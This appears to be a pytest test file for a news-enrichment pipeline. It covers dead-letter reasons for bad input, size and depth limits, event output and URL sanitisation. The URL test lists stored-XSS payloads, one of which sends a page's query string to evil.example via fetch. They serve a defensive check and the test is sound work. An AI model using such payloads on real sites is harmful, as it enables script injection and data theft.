"""The agent's pure step: every input either enriches or becomes a dead letter with a reason."""

from __future__ import annotations

import base64
import json

import pytest
from defaults import pack

from services.models import DeadLetter, EnrichedArticle, EventMessage
from services.pipeline import Source, process
from services.settings import Settings

SRC = Source("news.raw", 3, 17)


def _letter(value: bytes | None, settings: Settings | None = None) -> DeadLetter:
    (out,) = process(value, b"k", SRC, settings or Settings(), pack())
    assert out.topic == Settings().topics.deadletter
    return DeadLetter.model_validate_json(out.value)


@pytest.mark.parametrize(("value", "reason"), [
    (b"{oops", "invalid_json"),
    (b"", "invalid_json"),
    (None, "invalid_json"),
    (b"42", "not_an_object"),
    (b'{"body": "no id"}', "invalid_news_item"),
    (b'{"id": "", "body": "empty id"}', "invalid_news_item"),
    (b'{"id": "a", "body": ["not", "text"]}', "invalid_news_item"),
    (b'{"id": "a", "body": "x", "published_at": "yesterday-ish"}', "invalid_news_item"),
    (b'{"id": "a", "body": "\xc3\x28"}', "invalid_utf8"),
    (b'{"id": "a", "body": "x", "n": ' + b"[" * 5000 + b"]" * 5000 + b"}", "too_deep"),
])
def test_bad_input_is_dead_lettered_with_reason_and_origin(value: bytes | None, reason: str) -> None:
    letter = _letter(value)
    assert letter.reason == reason
    assert (letter.topic, letter.partition, letter.offset) == ("news.raw", 3, 17)
    assert base64.b64decode(letter.original_b64) == (value or b"")
    assert letter.detail


def test_size_limit() -> None:
    s = Settings(max_message_bytes=1024)
    letter = _letter(json.dumps({"id": "a", "body": "x" * 2000}).encode(), s)
    assert letter.reason == "too_large" and "1024" in letter.detail


def test_valid_article_gives_enriched_events_and_alerts() -> None:
    s = Settings()
    body = "China's coast guard law lets the coast guard use weapons. Chile and Peru signed a fisheries treaty."
    outs = process(json.dumps({"id": "ok-1", "body": body}).encode(), b"ok-1", SRC, s, pack())
    topics = [o.topic for o in outs]
    assert topics[0] == s.topics.enriched
    art = EnrichedArticle.model_validate_json(outs[0].value)
    assert topics.count(s.topics.events) == len(art.events) >= 2
    assert topics.count(s.topics.candidates) >= len(art.alerts) >= 1, "alerts go out through the alerter"
    assert s.topics.alerts not in topics
    for o in outs:
        if o.topic == s.topics.events:
            ev = EventMessage.model_validate_json(o.value)
            assert o.key == f"{ev.source.code}|{ev.target.code if ev.target else '-'}".encode()


def test_unknown_fields_are_kept_not_refused() -> None:
    outs = process(b'{"id": "x1", "body": "Nothing happened.", "feed": "rss"}', None, SRC, Settings(), pack())
    assert outs[0].topic == Settings().topics.enriched


@pytest.mark.parametrize("url", ["javascript:fetch('//evil.example/'+location.search)", " JavaScript:alert(1)",
                                 "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
                                 "//evil.example/x", "vbscript:msgbox(1)"])
def test_a_url_that_is_not_http_is_dropped_with_the_reason(url: str) -> None:
    """Stored XSS: the URL of an article ends up as a link on the live page and in webhook bodies."""
    body = "China's coast guard law lets the coast guard use weapons. Chile and Peru signed a fisheries treaty."
    outs = process(json.dumps({"id": "x2", "body": body, "url": url}).encode(), None, SRC, Settings(), pack())
    art = EnrichedArticle.model_validate_json(outs[0].value)
    assert art.url is None and art.url_rejected
    assert art.alerts and all(a.url is None for a in art.alerts)
    events = [EventMessage.model_validate_json(o.value) for o in outs if o.topic == Settings().topics.events]
    assert events and all(e.url is None for e in events)


def test_an_http_url_is_kept() -> None:
    outs = process(b'{"id": "x3", "body": "Nothing happened.", "url": "HTTPS://news.example/a?b=1"}', None, SRC,
                   Settings(), pack())
    art = EnrichedArticle.model_validate_json(outs[0].value)
    assert (art.url, art.url_rejected) == ("HTTPS://news.example/a?b=1", None)
